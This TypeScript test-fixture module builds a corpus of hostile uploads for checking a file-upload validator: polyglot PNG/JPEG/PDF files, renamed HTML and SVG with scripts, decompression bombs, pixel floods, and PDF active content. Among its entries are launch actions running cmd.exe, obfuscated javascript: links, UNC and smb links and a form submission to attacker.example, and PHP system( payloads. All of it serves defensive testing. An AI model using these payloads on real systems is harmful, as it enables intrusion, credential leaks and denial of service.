import zlib from 'node:zlib';
import sharp from 'sharp';
import {
  encodeAscii85,
  handmadePng,
  jpeg,
  objectStream,
  onePagePdf,
  pdfStream,
  pngChunk,
  withPngChunk,
} from './hostile-files.js';
import { MAX_IMAGE_PIXELS } from './uploads.js';
import {
  accept,
  baseJpeg,
  basePng,
  bombEntry,
  bombZip,
  deflatedEntry,
  floodPng,
  gzipBomb,
  type HostileFile,
  HTML,
  htmlZip,
  jar,
  pdfFollowedBy,
  pdfOpening,
  pdfWithHiddenScript,
  PHP,
  portableExecutable,
  reencoded,
  refuse,
  SCRIPT_ACTION,
  sharpImage,
  SVG,
  TEST_PDF_BUDGET,
  withJpegSegment,
  withJpegSize,
  zeros,
  zipArchive,
} from './upload-corpus.test-kit.js';

/** The first families of the hostile upload corpus (upload-corpus.test.ts), one table each. */

export const polyglots: HostileFile[] = [
  refuse('a PNG with a ZIP archive after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), htmlZip()]),
  ),
  refuse('a PNG with an HTML page after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), Buffer.from(HTML)]),
  ),
  refuse('a PNG with a PDF after IEND', 'photo.png', async () =>
    Buffer.concat([await basePng(), onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])]),
  ),
  refuse('a PNG with an HTML page in a tEXt chunk', 'photo.png', async () =>
    withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${HTML}`))),
  ),
  refuse('a PNG with an SVG in an uncompressed iTXt chunk', 'photo.png', async () =>
    withPngChunk(await basePng(), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`))),
  ),
  accept(
    'a PNG with an HTML page compressed in a zTXt chunk, out of sight of the markup check',
    'photo.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zlib.deflateSync(HTML)])),
      ),
    reencoded('png', 8, 8, ['zTXt', 'Comment']),
  ),
  accept(
    'a PNG with a ZIP archive in a private chunk before IEND',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('ziPp', htmlZip())),
    reencoded('png', 8, 8, ['ziPp', 'index.html']),
  ),
  accept(
    'a PNG with a Windows executable in a private chunk',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('exEc', portableExecutable())),
    reencoded('png', 8, 8, ['exEc', 'PE\0\0']),
  ),
  accept(
    'a PNG with PHP code in a tEXt chunk',
    'photo.png',
    async () => withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${PHP}`))),
    reencoded('png', 8, 8, ['system(', 'tEXt']),
  ),
  refuse('a JPEG with an HTML page after EOI', 'photo.jpg', async () =>
    Buffer.concat([await baseJpeg(), Buffer.from(HTML)]),
  ),
  refuse('a JPEG with a ZIP archive after EOI', 'photo.jpg', async () =>
    Buffer.concat([await baseJpeg(), htmlZip()]),
  ),
  refuse('a JPEG with an HTML page in a comment segment', 'photo.jpg', async () =>
    withJpegSegment(await baseJpeg(), 0xfe, HTML),
  ),
  refuse('a JPEG with an SVG in its XMP segment', 'photo.jpg', async () =>
    withJpegSegment(await baseJpeg(), 0xe1, `http://ns.adobe.com/xap/1.0/\0${SVG}`),
  ),
  accept(
    'a JPEG with a ZIP archive in an APP15 segment',
    'photo.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xef, htmlZip()),
    reencoded('jpeg', 16, 16, ['index.html']),
  ),
  accept(
    'a JPEG with a PDF that runs a script in its comment segment (JPEG/PDF polyglot)',
    'photo.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xfe, onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])),
    reencoded('jpeg', 16, 16, ['OpenAction', '%%EOF']),
  ),
  refuse('the JPEG/PDF polyglot named .pdf', 'statement.pdf', async () =>
    withJpegSegment(await baseJpeg(), 0xfe, onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION])),
  ),
  accept(
    'a JPEG followed by a second JPEG with PHP code in its comment segment',
    'photo.jpg',
    async () => Buffer.concat([await baseJpeg(), withJpegSegment(await jpeg(4, 4), 0xfe, PHP)]),
    reencoded('jpeg', 16, 16, ['system(']),
  ),
  refuse('a GIF with a Java archive appended (GIFAR), named .png', 'avatar.png', async () =>
    Buffer.concat([await sharpImage('gif'), jar()]),
  ),
  refuse('a GIF with a Java archive appended (GIFAR), named .jpg', 'avatar.jpg', async () =>
    Buffer.concat([await sharpImage('gif'), jar()]),
  ),
  refuse('a Java archive named .jpg', 'avatar.jpg', jar),
  refuse('a PDF with an HTML page in a string', 'statement.pdf', () => onePagePdf('', [`(${HTML})`])),
  refuse('a PDF with an HTML page after %%EOF', 'statement.pdf', () => pdfFollowedBy(HTML)),
  refuse('a PDF with a ZIP archive after %%EOF (PDF/ZIP polyglot)', 'statement.pdf', () =>
    pdfFollowedBy(htmlZip()),
  ),
  refuse('a PDF with a Windows executable after %%EOF', 'statement.pdf', () =>
    pdfFollowedBy(portableExecutable()),
  ),
  refuse('a PDF with a ZIP archive in a stream near its end, readable as a ZIP', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('', htmlZip())]),
  ),
  refuse('an HTML page with a PDF after it, named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from(HTML), onePagePdf()]),
  ),
];

export const markupRenamed: HostileFile[] = [
  refuse('an SVG with a script, named .png', 'passport.png', () => Buffer.from(SVG)),
  refuse('an SVG with a script, named .jpg', 'passport.jpg', () => Buffer.from(SVG)),
  refuse('an SVG with a script, named .pdf', 'passport.pdf', () => Buffer.from(SVG)),
  refuse('an SVG with an XML prolog, named .png', 'passport.png', () =>
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`),
  ),
  refuse('a gzipped SVG (svgz), named .png', 'passport.png', () => zlib.gzipSync(SVG)),
  refuse('an HTML page, named .png', 'passport.png', () => Buffer.from(HTML)),
  refuse('an HTML page, named .jpg', 'passport.jpg', () => Buffer.from(HTML)),
  refuse('an HTML page, named .jpeg', 'passport.jpeg', () => Buffer.from(HTML)),
  refuse('an HTML page, named .pdf', 'passport.pdf', () => Buffer.from(HTML)),
  refuse('an HTML page with a UTF-8 byte order mark, named .png', 'passport.png', () =>
    Buffer.concat([Buffer.from('efbbbf', 'hex'), Buffer.from(HTML)]),
  ),
  refuse('an HTML page in UTF-16, where the markup check sees no markers, named .png', 'passport.png', () =>
    Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(HTML, 'utf16le')]),
  ),
  refuse('an XHTML page, named .jpg', 'passport.jpg', () =>
    Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${HTML}</html>`),
  ),
  refuse('an HTML fragment using only tags the markup check does not list, named .png', 'passport.png', () =>
    Buffer.from('<img src=x onerror="alert(document.domain)"><a href="data:text/html,x">x</a>'),
  ),
  refuse('a JavaScript file, named .jpg', 'passport.jpg', () =>
    Buffer.from('fetch("/api/v1/user").then((r) => r.text()).then(alert);\n'),
  ),
  refuse('an XML file with an XSLT stylesheet, named .pdf', 'passport.pdf', () =>
    Buffer.from('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?><doc/>'),
  ),
  refuse('an HTML page behind a PNG signature', 'passport.png', () =>
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from(HTML)]),
  ),
  refuse('an HTML page between a %PDF- header and %%EOF', 'passport.pdf', () =>
    Buffer.from(`%PDF-1.7\n${HTML}\n%%EOF\n`),
  ),
];

export const bombs: HostileFile[] = [
  refuse('a PNG of 10001 × 10001 zero pixels in 130 KB of IDAT (100 million pixels)', 'bomb.png', async () =>
    handmadePng(10_001, 10_001, [pngChunk('IDAT', (await zeros()).zlib)]),
  ),
  accept(
    'an 8 × 8 PNG whose IDAT inflates to 128 MiB',
    'bomb.png',
    async () => handmadePng(8, 8, [pngChunk('IDAT', (await zeros()).zlib)]),
    reencoded('png', 8, 8),
  ),
  accept(
    'a PNG with a zTXt chunk that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['zTXt']),
  ),
  accept(
    'a PNG with a compressed iTXt chunk that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['iTXt']),
  ),
  accept(
    'a PNG with an ICC profile (iCCP) that inflates to 128 MiB',
    'bomb.png',
    async () =>
      withPngChunk(
        await basePng(),
        pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0'), (await zeros()).zlib])),
      ),
    reencoded('png', 8, 8, ['iCCP']),
  ),
  refuse('a ZIP bomb (128 MiB in one entry), named .png', 'bomb.png', bombZip),
  refuse('a ZIP bomb, named .jpg', 'bomb.jpg', bombZip),
  refuse('a ZIP bomb, named .pdf', 'bomb.pdf', bombZip),
  refuse('an overlapping ZIP bomb (64 listings of one 128 MiB entry), named .pdf', 'bomb.pdf', async () =>
    zipArchive([await bombEntry('zeros.bin')], 64),
  ),
  refuse('a nested ZIP bomb (16 ZIP bombs in a ZIP), named .png', 'bomb.png', async () => {
    const inner = await bombZip();
    return zipArchive(Array.from({ length: 16 }, (_, index) => deflatedEntry(`${index}.zip`, inner)));
  }),
  refuse('a gzip bomb, named .pdf', 'bomb.pdf', gzipBomb),
  {
    ...refuse('a PDF with a stream that inflates to 128 MiB', 'bomb.pdf', async () =>
      onePagePdf('', [pdfStream('/Filter /FlateDecode', (await zeros()).zlib)]),
    ),
    pdfDecodingBudget: TEST_PDF_BUDGET,
  },
  {
    ...refuse('a PDF with a doubly compressed stream that inflates to 128 MiB', 'bomb.pdf', async () =>
      onePagePdf('', [
        pdfStream('/Filter [/FlateDecode /FlateDecode]', zlib.deflateSync((await zeros()).zlib)),
      ]),
    ),
    pdfDecodingBudget: TEST_PDF_BUDGET,
  },
];

export const pixelFloods: HostileFile[] = [
  refuse('a PNG declaring 2147483647 × 2147483647 pixels', 'flood.png', () =>
    floodPng(2 ** 31 - 1, 2 ** 31 - 1),
  ),
  refuse('a PNG declaring 65535 × 65535 pixels', 'flood.png', () => floodPng(65_535, 65_535)),
  refuse('a PNG one pixel wide and MAX_IMAGE_PIXELS + 1 high', 'flood.png', () =>
    floodPng(1, MAX_IMAGE_PIXELS + 1),
  ),
  refuse('a PNG MAX_IMAGE_PIXELS + 1 wide and one pixel high', 'flood.png', () =>
    floodPng(MAX_IMAGE_PIXELS + 1, 1),
  ),
  refuse('a PNG declaring 20000 × 5001 pixels, just over the limit', 'flood.png', () =>
    floodPng(20_000, 5_001),
  ),
  refuse('a PNG declaring a width of 0', 'flood.png', () => floodPng(0, 8)),
  refuse('a JPEG whose frame header declares 65535 × 65535 pixels', 'flood.jpg', async () =>
    withJpegSize(await baseJpeg(), 65_535, 65_535),
  ),
  refuse(
    'a JPEG whose frame header declares 65535 × 1526 pixels, just over the limit',
    'flood.jpg',
    async () => withJpegSize(await baseJpeg(), 65_535, 1_526),
  ),
  refuse('a progressive JPEG declaring 65535 × 65535 pixels', 'flood.jpg', async () =>
    withJpegSize(
      await sharp(await baseJpeg())
        .jpeg({ progressive: true })
        .toBuffer(),
      65_535,
      65_535,
    ),
  ),
  refuse('a JPEG whose frame header declares a height of 0', 'flood.jpg', async () =>
    withJpegSize(await baseJpeg(), 16, 0),
  ),
];

export const pdfActiveContent: HostileFile[] = [
  refuse('a script action run on opening', 'statement.pdf', () =>
    onePagePdf('/OpenAction 5 0 R ', [SCRIPT_ACTION]),
  ),
  refuse('a script written as a hex string', 'statement.pdf', () =>
    pdfOpening(`<< /S /JavaScript /JS <${Buffer.from('app.alert(1)').toString('hex')}> >>`),
  ),
  refuse('a script with no whitespace between the names', 'statement.pdf', () =>
    pdfOpening('<</S/JavaScript/JS(app.alert(1))>>'),
  ),
  refuse('a page-open action (/AA) naming only /JS', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /JS (app.alert(1)) >> >> '),
  ),
  refuse('a script run when the document closes (/AA /WC)', 'statement.pdf', () =>
    onePagePdf('/AA << /WC 5 0 R >> ', [SCRIPT_ACTION]),
  ),
  refuse('a document-level script in the /Names tree', 'statement.pdf', () =>
    onePagePdf('/Names << /JavaScript << /Names [(init) 5 0 R] >> >> ', [SCRIPT_ACTION]),
  ),
  refuse('a link annotation whose action is a script', 'statement.pdf', () =>
    onePagePdf('', [`<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${SCRIPT_ACTION} >>`]),
  ),
  refuse('a form field with a keystroke script', 'statement.pdf', () =>
    onePagePdf('/AcroForm << /Fields [5 0 R] >> ', ['<< /FT /Tx /T (name) /AA << /K << /JS (x) >> >> >>']),
  ),
  refuse('a launch action running cmd.exe', 'statement.pdf', () =>
    pdfOpening('<< /S /Launch /F (cmd.exe) >>'),
  ),
  refuse('a launch action with Windows parameters', 'statement.pdf', () =>
    pdfOpening('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>'),
  ),
  refuse('an embedded file in the /EmbeddedFiles tree', 'statement.pdf', () =>
    onePagePdf('/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >> ', [
      '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
    ]),
  ),
  refuse('a file attachment annotation with an embedded file stream', 'statement.pdf', () =>
    onePagePdf('', [
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (a.exe) /EF << /F 6 0 R >> >> >>',
      pdfStream('/Type /EmbeddedFile', portableExecutable().subarray(0, 64)),
    ]),
  ),
  refuse('a URI action opening a javascript: link', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (javascript:app.alert(1)) >>'),
  ),
  refuse('a URI action opening a JAVASCRIPT: link in capitals', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (JAVASCRIPT:app.alert(1)) >>'),
  ),
  refuse('a URI action whose javascript: link is a hex string', 'statement.pdf', () =>
    pdfOpening(`<< /S /URI /URI <${Buffer.from('javascript:app.alert(1)').toString('hex')}> >>`),
  ),
  refuse('a URI action whose javascript: link is written with octal escapes', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (\\152\\141vascript:app.alert\\0501\\051) >>'),
  ),
  refuse('a URI action opening a file: link to a remote share', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (file://attacker.example/share/statement.pdf) >>'),
  ),
  refuse('a URI action opening a UNC path (leaks network credentials)', 'statement.pdf', () =>
    pdfOpening('<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\a.pdf) >>'),
  ),
  refuse('a URI action opening an smb: link', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /S /URI /URI (smb://attacker.example/share) >> >> '),
  ),
  refuse('a URI action whose link is another object, out of sight', 'statement.pdf', () =>
    onePagePdf('/OpenAction << /S /URI /URI 5 0 R >> ', ['(file://attacker.example/share)']),
  ),
  refuse('a form that submits itself', 'statement.pdf', () =>
    pdfOpening('<< /S /SubmitForm /F (https://attacker.example/collect) >>'),
  ),
  refuse('a data import', 'statement.pdf', () => pdfOpening('<< /S /ImportData /F (data.fdf) >>')),
  refuse('a remote document link (/GoToR) to a UNC path', 'statement.pdf', () =>
    pdfOpening('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  ),
  refuse('an embedded document link (/GoToE)', 'statement.pdf', () =>
    pdfOpening('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  ),
  refuse('a rich media annotation', 'statement.pdf', () =>
    onePagePdf('', ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>']),
  ),
  refuse('an XFA form', 'statement.pdf', () =>
    onePagePdf('/AcroForm << /Fields [] /XFA 5 0 R >> ', ['<< >>']),
  ),
  refuse('encryption, which hides the content from inspection', 'statement.pdf', () =>
    onePagePdf(
      '',
      ['<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'],
      '/Encrypt 5 0 R /ID [<01> <01>] ',
    ),
  ),
  refuse('/J#61vaScript, a hex-escaped name', 'statement.pdf', () =>
    pdfOpening('<< /S /J#61vaScript /JS (app.alert(1)) >>'),
  ),
  refuse('/#4A#53, every letter of /JS escaped', 'statement.pdf', () =>
    onePagePdf('/AA << /O << /#4A#53 (app.alert(1)) >> >> '),
  ),
  refuse('/L#61unch, an escaped launch action', 'statement.pdf', () =>
    pdfOpening('<< /S /L#61unch /F (calc.exe) >>'),
  ),
  refuse('/Emb#65ddedFiles, an escaped attachment tree', 'statement.pdf', () =>
    onePagePdf('/Names << /Emb#65ddedFiles << /Names [(a.exe) 5 0 R] >> >> ', ['<< >>']),
  ),
  refuse('a script in a compressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /FlateDecode'),
  ),
  refuse('a script in an uncompressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm', (data) => data),
  ),
  refuse('a script in an object stream that calls itself an image', 'statement.pdf', () =>
    pdfWithHiddenScript('/Subtype /Image /Width 1 /Height 1 /Filter /FlateDecode'),
  ),
  refuse('a script behind two layers of compression', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', (data) =>
      zlib.deflateSync(zlib.deflateSync(data)),
    ),
  ),
  refuse('a script in an ASCII85 and Flate encoded object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]', (data) =>
      Buffer.from(`${encodeAscii85(zlib.deflateSync(data))}~>`, 'latin1'),
    ),
  ),
  refuse('a script in an ASCIIHex encoded object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /ASCIIHexDecode', (data) =>
      Buffer.from(`${data.toString('hex')}>`, 'latin1'),
    ),
  ),
  refuse('a hex-escaped /J#61vaScript inside a compressed object stream', 'statement.pdf', () => {
    const hidden = objectStream([[6, '<< /S /J#61vaScript /J#53 (app.alert(1)) >>']]);
    return onePagePdf('/OpenAction 6 0 R ', [
      pdfStream(`/Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode`, hidden.data),
    ]);
  }),
  refuse('an XFA form inside a compressed object stream', 'statement.pdf', () => {
    const hidden = objectStream([[6, '<< /Fields [] /XFA 7 0 R >>']]);
    return onePagePdf('/AcroForm 6 0 R ', [
      pdfStream(`/Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode`, hidden.data),
    ]);
  }),
  refuse('an object stream behind LZW, which is not decoded', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from([0x80, 0x0b]))]),
  ),
  refuse('an object stream behind RunLength, which is not decoded', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /RunLengthDecode', Buffer.from([0x80]))]),
  ),
  refuse('an object stream behind a Crypt filter', 'statement.pdf', () =>
    onePagePdf('', [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /Crypt', Buffer.from([0x00]))]),
  ),
  refuse('a script in a compressed stream whose /Length says 0', 'statement.pdf', () => {
    const hidden = objectStream([[6, SCRIPT_ACTION]]);
    return onePagePdf('/OpenAction 6 0 R ', [
      Buffer.concat([
        Buffer.from(
          `<< /Type /ObjStm /N 1 /First ${hidden.first} /Filter /FlateDecode /Length 0 >>\nstream\n`,
        ),
        hidden.data,
        Buffer.from('\nendstream'),
      ]),
    ]);
  }),
  refuse('a script added in an incremental update after the first %%EOF', 'statement.pdf', () =>
    Buffer.concat([
      onePagePdf(),
      Buffer.from(`6 0 obj\n${SCRIPT_ACTION}\nendobj\ntrailer\n<< /Root 1 0 R /OpenAction 6 0 R >>\n%%EOF\n`),
    ]),
  ),
  refuse('a script before the damage in a corrupted compressed object stream', 'statement.pdf', () =>
    pdfWithHiddenScript('/Type /ObjStm /Filter /FlateDecode', (data) => {
      const padded = zlib.deflateSync(Buffer.concat([data, Buffer.from(` %${'x'.repeat(5000)}`)]));
      return Buffer.from(padded).fill(0xff, padded.length - 20, padded.length - 4);
    }),
  ),
];
